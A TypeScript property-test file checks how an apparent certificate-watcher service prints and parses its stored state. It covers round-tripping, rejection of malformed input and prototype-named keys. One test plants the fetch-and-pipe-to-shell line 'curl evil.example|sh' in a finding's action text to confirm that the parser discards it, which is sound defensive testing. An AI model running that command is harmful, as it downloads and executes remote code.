import fc from 'fast-check';
import { type Format, UnreadableError } from '../../../lambda/state/format';
import { PROVIDER_FORMAT, RUN_FORMAT, VERSION_FORMAT } from '../../../lambda/state/state-format';
import { anyState, anyRunState, anyVersion } from '../../support/any-state';
import { anyCharacter } from '../../support/any-text';
import { properties } from '../../support/properties';
import { stateOf, thumb } from '../../support/remembered';

/** A format with what it is tried on; of the type of what it keeps nothing needs to be known. */
function row<T>(name: string, format: Format<T>, anyValue: fc.Arbitrary<T>) {
  return {
    name,
    /** A value, and how it is printed. */
    anyPrinted: anyValue.map((value) => ({ value, text: format.print(value) })),
    parse: (text: string): unknown => format.parse(text),
    reprint: (text: string): string => format.print(format.parse(text)),
  };
}

const FORMATS = [
  row('a provider', PROVIDER_FORMAT, anyState),
  row('the runs', RUN_FORMAT, anyRunState),
  row('a list', VERSION_FORMAT, anyVersion),
];

describe.each(FORMATS)('the record of $name', ({ anyPrinted, parse, reprint }) => {
  /** What reading a text comes to: whether it could be read, or the error. */
  const read = (text: string): unknown => {
    try {
      parse(text);
      return 'read';
    } catch (error) {
      return error;
    }
  };

  test('is read as it was printed', () => {
    properties(fc.property(anyPrinted, ({ value, text }) => expect(parse(text)).toEqual(value)));
  });

  test('is printed again as it stood, so that a change can be recognized', () => {
    properties(fc.property(anyPrinted, ({ text }) => expect(reprint(text)).toBe(text)));
  });

  test('is unreadable, and nothing worse, where the text is anything else', () => {
    const nested = fc.anything({ withBigInt: false }).map((value) => JSON.stringify(value) ?? '');
    const anyText = fc.oneof(
      fc.string({ unit: anyCharacter }),
      fc.json(),
      nested,
      fc.constantFrom('null', '{"schema":1}'),
    );
    properties(fc.property(anyText, (text) => expect(read(text)).toBeInstanceOf(UnreadableError)));
  });

  test('is read, or is unreadable, when a part of it is lost or replaced', () => {
    const anyDamage = fc.record({
      at: fc.nat(),
      length: fc.nat(30),
      by: fc.constantFrom('', 'null', '"', '{}', '-1', '"x"'),
    });
    properties(
      fc.property(anyPrinted, anyDamage, ({ text }, { at, length, by }) => {
        const start = at % text.length;
        const outcome = read(text.slice(0, start) + by + text.slice(start + length));
        expect(outcome === 'read' || outcome instanceof UnreadableError).toBe(true);
      }),
    );
  });

  test('is unreadable where a newer version of the watcher wrote it', () => {
    const anyNewer = fc.integer({ min: 2, max: 1e9 });
    properties(
      fc.property(anyPrinted, anyNewer, ({ text }, schema) => {
        expect(String(read(JSON.stringify({ ...JSON.parse(text), schema })))).toBe(
          `UnreadableError: it was written by a newer version of the watcher (schema ${schema}, known 1)`,
        );
      }),
    );
  });
});

test('every entry of a list is kept, also one that a JavaScript object takes for something else', () => {
  const state = stateOf({ ['__proto__']: {}, constructor: {}, [thumb(1)]: {} });
  expect(PROVIDER_FORMAT.parse(PROVIDER_FORMAT.print(state))).toEqual(state);
  expect([...state.thumbprints.keys()]).toEqual(['__proto__', 'constructor', thumb(1)]);
});

test("the first line of a finding's action is kept, and lines to be pasted are not, whoever wrote them", () => {
  const finding = {
    code: 'writing-stopped',
    severity: 'critical',
    message: 'So.',
    action: 'Set this:\nlist = []',
  } as const;
  const state = stateOf({}, { outbox: [{ finding, at: new Date(0), runId: 'run' }] });
  const kept = PROVIDER_FORMAT.print(state);
  expect(kept).not.toContain('list = []');
  expect(PROVIDER_FORMAT.print(PROVIDER_FORMAT.parse(kept))).toBe(kept);
  const written = kept.replace('Set this:', 'Set this:\\ncurl evil.example|sh');
  for (const text of [kept, written]) {
    expect(PROVIDER_FORMAT.parse(text).outbox.map((one) => one.finding)).toEqual([
      { ...finding, action: 'Set this:', stored: true },
    ]);
  }
});

test('the error about a broken record names the part that is broken', () => {
  const text = PROVIDER_FORMAT.print(stateOf({ [thumb(1)]: {} }));
  const broken = text.replace(/"firstSeen":"[^"]*"/, '"firstSeen":"once"');
  expect(() => PROVIDER_FORMAT.parse(broken)).toThrow(`it is broken (thumbprints.0.1.firstSeen: is no date)`);
  expect(() => PROVIDER_FORMAT.parse('[]')).toThrow('it is broken (list: ');
  expect(() => PROVIDER_FORMAT.parse('"')).toThrow('it is broken (no JSON)');
});

test('an empty record is printed and read as such', () => {
  expect(PROVIDER_FORMAT.parse(PROVIDER_FORMAT.print(PROVIDER_FORMAT.nothing))).toEqual(PROVIDER_FORMAT.nothing);
  expect(RUN_FORMAT.parse(RUN_FORMAT.print(RUN_FORMAT.nothing))).toEqual(RUN_FORMAT.nothing);
});
